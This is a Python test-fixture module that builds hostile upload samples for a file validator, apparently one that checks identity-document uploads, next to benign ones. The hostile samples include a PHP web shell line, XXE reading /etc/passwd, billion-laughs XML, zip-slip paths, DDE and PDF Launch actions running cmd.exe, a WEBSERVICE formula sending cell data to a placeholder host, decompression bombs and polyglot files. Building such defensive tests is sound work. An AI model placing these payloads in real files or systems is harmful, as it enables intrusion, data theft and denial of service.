"""Files made to do harm, and files as people really send them. Every one is made here, small, from the format's own rules."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.factories.files import (
    RELATIONS,
    box,
    docx,
    film,
    id3,
    m4a,
    mp3,
    mp4,
    pdf,
    picture,
    relations,
    xlsx,
    zipped,
)

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); ?>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
EXE = b"MZ" + bytes(62) + b"PE\0\0" + bytes(200)
ELF = b"\x7fELF" + bytes(60)
XXE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "hahaha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><x>&i;</x>"
)
MACRO_TYPE = '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
Sample = tuple[str, str, bytes]  # what it is, its name, its content


def external(kind: str, target: str) -> str:
    return relations(f'Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"')


def field(code: str) -> str:
    return f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>"


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with next to nothing in it."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def action(**entries: object) -> Dictionary:
    return Dictionary(Type=Name.Action, **entries)


def opens_with(value: object):
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = value

    return change


def named(**entries: object):
    def change(document: pikepdf.Pdf) -> None:
        document.Root.Names = Dictionary(**entries)

    return change


def annotated(**entries: object):
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        document.pages[0].Annots = Array([note])

    return change


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = EXE


def form_with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))


def page_action(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = Dictionary(O=action(S=Name.JavaScript, JS=String("x")))


def flate_bomb() -> bytes:
    """Objects in a stream that grows two thousandfold to 80 MB."""
    inner = b"1 0 " + b" " * (80 * 1024 * 1024) + b"<<>>"
    packed = zlib.compress(inner, 9)
    written = io.BytesIO()
    written.write(b"%PDF-1.5\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n")
    written.write(b"2 0 obj\n<</Type/Pages/Kids[]/Count 0>>\nendobj\n")
    written.write(b"3 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(packed))
    written.write(packed + b"\nendstream\nendobj\ntrailer\n<</Root 1 0 R/Size 4>>\nstartxref\n0\n%%EOF\n")
    return written.getvalue()


def zip_with(name: str, content: bytes, mode: int = 0, flags: int = 0, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A Word file with one more entry, whose name goes in as it is."""
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a", method) as archive:
        entry = zipfile.ZipInfo("x")
        entry.filename, entry.external_attr, entry.compress_type = name, mode << 16, method
        archive.writestr(entry, content)
    made = written.getvalue()
    if flags:  # in the directory, where readers look
        at = made.rindex(b"PK\x01\x02")
        made = made[: at + 8] + struct.pack("<H", flags) + made[at + 10 :]
    return made


def many_entries() -> bytes:
    return docx(more={f"word/media/{number}.xml": "<x/>" for number in range(2100)}, method=zipfile.ZIP_STORED)


def _wrong_kinds() -> Iterator[Sample]:
    for name, content in (
        ("skrip.svg", SVG), ("halaman.html", HTML), ("program.exe", EXE), ("arsip.zip", zipped({"a": "b"})), ("tanpa", b"x"),
        ("makro.docm", docx()), ("makro.xlsm", xlsx()), ("lama.doc", OLE), ("gambar.gif", b"GIF89a" + bytes(20)),
        ("teks.txt", b"teks"), ("skrip.js", b"alert(1)"), ("foto.heic", bytes(20)), ("tautan.lnk", bytes(20)),
    ):  # fmt: skip
        yield f"kind {name}", name, content
    for extension in ("jpg", "png", "webp", "pdf", "docx", "xlsx", "mp3", "m4a", "mp4"):
        yield f"html as {extension}", f"ktp.{extension}", HTML
        yield f"program as {extension}", f"ktp.{extension}", EXE
        yield f"nothing as {extension}", f"ktp.{extension}", b""
    yield "svg as png", "ktp.png", SVG
    yield "php as jpg", "ktp.jpg", PHP
    yield "elf as pdf", "ktp.pdf", ELF
    yield "ole as docx", "ktp.docx", OLE
    yield "png as jpg", "ktp.jpg", picture("PNG")
    yield "pdf as jpg", "ktp.jpg", pdf()
    yield "xlsx as docx", "ktp.docx", xlsx()
    yield "docx as xlsx", "ktp.xlsx", docx()
    yield "any zip as docx", "ktp.docx", zipped({"a.xml": "<a/>"})
    yield "film as recording", "suara.m4a", mp4()


NAMES = (
    "ktp.php.jpg", "ktp.exe.jpg", "ktp.html.jpg", "ktp.svg.jpg", "ktp.jpg.exe", "ktp.jpg\0.exe", "ktp\0.jpg", "ktp.jpg\0",
    "ktp\u202egpj.exe", "ktp\u202e.jpg", "ktp\u200b.jpg", "ktp\r\nX-Y: 1.jpg", "ktp\n.jpg", "../ktp.jpg", "..\\ktp.jpg",
    "/etc/ktp.jpg", "a" * 5000 + ".jpg", ".jpg", " .jpg", "jpg", "ktp.jpg.", "ktp.jpg ", "",
)  # fmt: skip


def _pictures() -> Iterator[Sample]:
    yield "pixel flood png", "ktp.png", png_of(50_000, 50_000)
    yield "pixels just over", "ktp.png", png_of(8001, 5000)
    yield "png cut", "ktp.png", picture("PNG", (300, 300))[:-40]
    yield "jpg cut", "ktp.jpg", picture(size=(400, 400))[:700]
    yield "webp cut", "ktp.webp", picture("WEBP", (200, 200))[:30]
    yield "jpg header alone", "ktp.jpg", b"\xff\xd8\xff\xe0" + HTML
    yield "png header alone", "ktp.png", b"\x89PNG\r\n\x1a\n" + HTML
    yield "jpg and zip", "ktp.jpg", picture() + zipped({"x.exe": EXE})
    yield "png and jar", "ktp.png", picture("PNG") + zipped({"META-INF/MANIFEST.MF": "a"})
    yield "webp and docx", "ktp.webp", picture("WEBP") + docx()


def _pdfs() -> Iterator[Sample]:
    run = action(S=Name.JavaScript, JS=String("app.alert(1)"))
    link = {"Subtype": Name.Link}
    changes = {
        "opens script": opens_with(run), "opens program": opens_with(action(S=Name.Launch, F=String("cmd.exe"))),
        "opens address": opens_with(action(S=Name.URI, URI=String("http://x"))),
        "named script": named(JavaScript=Dictionary(Names=Array([String("a"), run]))),
        "page action": page_action, "attachment": attached, "xfa form": form_with_xfa,
        "link to program": annotated(**link, A=action(S=Name.Launch, F=String("x"))),
        "link to other file": annotated(**link, A=action(S=Name.GoToR, F=String("\\\\x\\y"))),
        "form sends": annotated(**link, A=action(S=Name.SubmitForm, F=String("http://x"))),
        "form reads": annotated(**link, A=action(S=Name.ImportData, F=String("x"))),
        "chained script": annotated(**link, A=action(S=Name.URI, URI=String("http://x"), Next=run)),
        "file note": annotated(Subtype=Name.FileAttachment), "rich media": annotated(Subtype=Name.RichMedia),
        "film note": annotated(Subtype=Name.Movie), "screen note": annotated(Subtype=Name.Screen),
    }  # fmt: skip
    for what, change in changes.items():
        yield f"pdf {what}", "lp.pdf", pdf(change)
        packed = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield f"pdf {what}, packed", "lp.pdf", packed
    yield "pdf locked", "lp.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "pdf locked for owner", "lp.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    yield "pdf cut", "lp.pdf", pdf()[:-60]
    yield "pdf with html in front", "lp.pdf", HTML + pdf()
    yield "pdf with html inside", "lp.pdf", pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1)
    yield "pdf and zip", "lp.pdf", pdf() + zipped({"x.exe": EXE})
    yield "pdf and more", "lp.pdf", pdf() + EXE
    yield "pdf in front of a zip comment", "lp.pdf", b"%PDF-1.7\n" + zipped({"a": "b"}) + pdf()
    yield "pdf header alone", "lp.pdf", b"%PDF-1.7\n%%EOF\n"
    yield "pdf bomb", "lp.pdf", flate_bomb()


def _office() -> Iterator[Sample]:
    yield from (("docx " + what, "surat.docx", content) for what, content in _word_files())
    yield from (("docx " + what, "surat.docx", content) for what, content in _archives())
    yield from (("xlsx " + what, "daftar.xlsx", content) for what, content in _excel_files())


def _word_files() -> Iterator[tuple[str, bytes]]:
    doc_links = "word/_rels/document.xml.rels"
    yield "macro", docx(more={"word/vbaProject.bin": OLE})
    yield "macro type", docx(types=MACRO_TYPE)
    yield "macro under another name", docx(more={doc_links: relations('Type="http://x/vbaProject" Target="a.bin"')})
    yield "object", docx(more={"word/embeddings/oleObject1.bin": OLE})
    yield "object in body", docx('<o:OLEObject xmlns:o="urn:o"/>')
    yield "activex", docx(more={"word/activeX/activeX1.xml": "<x/>"})
    yield "remote template", docx(more={"word/_rels/settings.xml.rels": external("attachedTemplate", "http://x/a.dotm")})
    yield "remote picture", docx(more={doc_links: external("image", "http://x/a.png")})
    yield "remote frame", docx(more={doc_links: external("frame", "http://x/")})
    yield "link to a share", docx(more={doc_links: external("hyperlink", "\\\\x\\y")})
    yield "link to a file", docx(more={doc_links: external("hyperlink", "file:///etc/passwd")})
    yield "link that runs", docx(more={doc_links: external("hyperlink", "javascript:alert(1)")})
    yield "other document inside", docx(more={doc_links: relations(f'Type="{RELATIONS}/aFChunk" Target="x.html"')})
    yield "dde", docx(field("DDEAUTO c:\\\\windows\\\\cmd.exe /k calc"))
    yield "dde in pieces", docx(field("DDE") + field("AUTO cmd"))
    yield "field that fetches", docx(field("INCLUDEPICTURE http://x/a.png"))
    yield "simple field that fetches", docx('<w:fldSimple w:instr="INCLUDETEXT http://x"/>')


def _archives() -> Iterator[tuple[str, bytes]]:
    doc_links = "word/_rels/document.xml.rels"
    yield "xxe", docx(more={"word/document.xml": XXE})
    yield "billion laughs", docx(more={"word/document.xml": LAUGHS})
    yield "xxe in links", docx(more={doc_links: XXE})
    yield "broken xml", docx(more={"word/document.xml": "<w:document>"})
    yield "zip slip", zip_with("../../etc/cron.d/x.xml", b"<x/>")
    yield "absolute path", zip_with("/etc/x.xml", b"<x/>")
    yield "windows path", zip_with("..\\x.xml", b"<x/>")
    yield "drive", zip_with("C:x.xml", b"<x/>")
    yield "symlink", zip_with("word/x.xml", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)
    yield "locked entry", zip_with("word/x.xml", b"<x/>", flags=1)
    yield "twice the same", zip_with("word/document.xml", b"<x/>")
    yield "twice, other letters", zip_with("WORD/Document.xml", b"<x/>")
    yield "program inside", zip_with("word/media/a.png", EXE)
    yield "zip inside", zip_with("word/media/a.zip", zipped({"a": "b"}))
    yield "script inside", zip_with("word/a.js", b"alert(1)")
    yield "zip bomb", docx(more={"word/bomb.xml": b"<x>" + b" " * (40 * 1024 * 1024) + b"</x>"})
    yield "too many entries", many_entries()
    yield "something behind", docx() + EXE
    yield "something in front", EXE + docx()
    yield "cut", docx()[:-30]
    yield "damaged", docx(method=zipfile.ZIP_STORED).replace(b"Isi", b"isi")
    stored = docx(method=zipfile.ZIP_STORED)
    yield "strange method", stored.replace(b"PK\x03\x04\x14" + bytes(5), b"PK\x03\x04\x14\0\0\0\x63\0")


def _excel_files() -> Iterator[tuple[str, bytes]]:
    yield "macro", xlsx(more={"xl/vbaProject.bin": OLE})
    yield "old macro sheet", xlsx(more={"xl/macrosheets/sheet1.xml": "<x/>"})
    yield "outer book", xlsx(more={"xl/externalLinks/externalLink1.xml": "<x/>"})
    yield "connection", xlsx(more={"xl/connections.xml": "<x/>"})
    yield "dde formula", xlsx("<row><c><f>cmd|'/C calc'!A0</f></c></row>")
    yield "formula that fetches", xlsx('<row><c><f>WEBSERVICE("http://x/"&amp;A1)</f></c></row>')
    yield "xxe", xlsx(more={"xl/workbook.xml": XXE})


def _recordings() -> Iterator[Sample]:
    yield "mp3 and zip", "suara.mp3", mp3() + zipped({"x": EXE})
    yield "mp3 and html", "suara.mp3", mp3() + HTML * 20
    yield "mp3 of a tag alone", "suara.mp3", id3(HTML)
    yield "mp3 header alone", "suara.mp3", b"\xff\xfb\x90\x00" + HTML
    yield "mp3 tag beyond the end", "suara.mp3", b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + HTML
    yield "mp4 cut", "film.mp4", mp4()[:-20]
    yield "mp4 and zip", "film.mp4", mp4() + zipped({"x": EXE})
    yield "mp4 and html", "film.mp4", mp4() + HTML
    yield "mp4 and unknown box", "film.mp4", mp4(tail=box(b"evil", EXE))
    yield "mp4 without film", "film.mp4", film()
    yield "mp4 header alone", "film.mp4", box(b"ftyp", b"isom") + HTML
    endless = box(b"ftyp", b"isom" + bytes(4)) + bytes(8) * 30_000 + box(b"moov")
    yield "mp4 of boxes without end", "film.mp4", endless


def hostile() -> list[Sample]:
    """What must be refused."""
    named_ones = [(f"name {name[:20]!r}", name, picture()) for name in NAMES]
    return [*_wrong_kinds(), *named_ones, *_pictures(), *_pdfs(), *_office(), *_recordings()]


def good() -> list[Sample]:
    """What must be taken."""
    doc_links = "word/_rels/document.xml.rels"
    place = opens_with(Array([0, Name.Fit]))
    return [
        ("photo", "KTP depan.jpg", picture()),
        ("photo, old letters", "KTP.JPG", picture()),
        ("photo jpeg", "ktp.jpeg", picture()),
        ("photo in grey", "ktp.jpg", picture(mode="L")),
        ("photo for print", "ktp.jpg", picture(mode="CMYK")),
        ("photo progressive", "ktp.jpg", picture(progressive=True)),
        ("photo with a place", "ktp.jpg", picture(exif=b"Exif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0")),
        ("picture", "ktp.png", picture("PNG")),
        ("picture, see-through", "ktp.png", picture("PNG", mode="RGBA")),
        ("picture of few colours", "ktp.png", picture("PNG", mode="P")),
        ("picture black and white", "ktp.png", picture("PNG", mode="1")),
        ("picture webp", "ktp.webp", picture("WEBP")),
        ("picture webp, whole", "ktp.webp", picture("WEBP", lossless=True)),
        ("name with a date", "Visum 12.11.2026.pdf", pdf()),
        ("name in Arabic", "جواز سفر.pdf", pdf()),
        ("pdf packed", "lp.pdf", pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
        ("pdf opens at a page", "lp.pdf", pdf(place)),
        ("pdf of old", "lp.pdf", pdf(force_version="1.3")),
        ("pdf for fast view", "lp.pdf", pdf(linearize=True)),
        ("pdf with a link", "lp.pdf", pdf(annotated(Subtype=Name.Link, A=action(S=Name.URI, URI=String("https://x"))))),
        ("pdf with blanks behind", "lp.pdf", pdf() + b"\r\n\r\n"),
        ("letter", "surat.docx", docx()),
        ("letter unpacked", "surat.docx", docx(method=zipfile.ZIP_STORED)),
        ("letter with a link", "surat.docx", docx(more={doc_links: external("hyperlink", "https://kemensos.go.id/link")})),
        ("letter with a picture", "surat.docx", docx(more={"word/media/image1.png": picture("PNG")})),
        ("letter with contents", "surat.docx", docx(field(' TOC \\o "1-3" \\h ') + field(" PAGE "))),
        ("list", "daftar.xlsx", xlsx()),
        ("list with sums", "daftar.xlsx", xlsx("<row><c><f>SUM(A1:A9)</f></c></row>")),
        ("list with printer", "daftar.xlsx", xlsx(more={"xl/printerSettings/printerSettings1.bin": bytes(40)})),
        ("film", "film.mp4", mp4()),
        ("film of a phone", "film.mp4", mp4(brand=b"mp42", telling=box(b"\xa9xyz", b"-6.2+106.8/"))),
        ("recording", "suara.m4a", m4a()),
        ("recording of a phone", "suara.m4a", m4a(brand=b"mp42")),
        ("sound", "suara.mp3", mp3()),
        ("sound with tags", "suara.mp3", mp3(tag=id3(b"TIT2" + bytes(50)), tail=b"TAG" + bytes(125))),
        ("sound broken off", "suara.mp3", mp3()[:-100]),
    ]
